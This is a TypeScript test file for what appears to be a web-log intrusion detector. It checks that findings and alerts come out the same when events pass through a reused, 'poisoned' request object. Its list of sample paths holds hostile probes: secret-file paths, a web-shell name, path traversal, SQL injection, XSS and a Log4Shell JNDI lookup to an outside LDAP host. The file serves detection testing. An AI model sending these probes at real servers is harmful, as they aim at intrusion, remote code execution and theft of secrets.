import { expect, test } from "bun:test";
import { Bench } from "../../test/judging.ts";
import { PoisonedRequest } from "../../test/poisoned-request.ts";
import { SECOND, VISITOR, visit, visits } from "../../test/visits.ts";
import type { RequestEvent } from "../model/event.ts";

const PATHS = [
  "/.env",
  "/.git/config",
  "/phpmyadmin/",
  "/wp-login.php",
  "/c99.php",
  "/boaform/admin/formLogin",
  "/static/%2e%2e/%2e%2e/secret",
  "/p?id=1%27%20UNION%20SELECT%20NULL--%20",
  "/p?id=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
  "/search?q=%24%7Bjndi:ldap://198.51.100.7/a%7D",
  "http://azenv.example/",
];

function session(): RequestEvent[] {
  return [
    ...visits(66, SECOND, (i) => visit(PATHS[i % PATHS.length] ?? "/", { status: i % 3 ? 404 : 200 })),
    ...visits(60, SECOND / 2, (i) => visit(`/word-${i}`, { status: 404, vhost: "www.example.org" })),
    ...visits(20, SECOND, (i) => visit("/private/", { status: i < 18 ? 401 : 200, user: `user-${i}` })),
    ...visits(9, SECOND, () =>
      visit("/", { userAgent: "sqlmap/1.8", referrer: "https://www.example.org/?q=a" }),
    ),
    ...visits(2000, 10, (i) => visit(`/p/${i}`, { status: i % 3 ? 503 : 200 })),
  ].toSorted((a, b) => a.at - b.at);
}

test("a line is judged where it lies as its plain event is, and nothing of it is kept", () => {
  const events = session();
  const plain = new Bench().feed(...events).settle();
  const views = new Bench();
  const view = new PoisonedRequest();
  for (const event of events) {
    views.feed(view.load(event));
    view.poison();
  }
  views.settle();
  const verdict = plain.verdict(VISITOR);
  expect(verdict?.findings.length).toBeGreaterThan(9);
  expect(structuredClone(views.verdict(VISITOR)?.findings)).toEqual(structuredClone(verdict?.findings));
  expect(views.alerts).toEqual(plain.alerts);
});
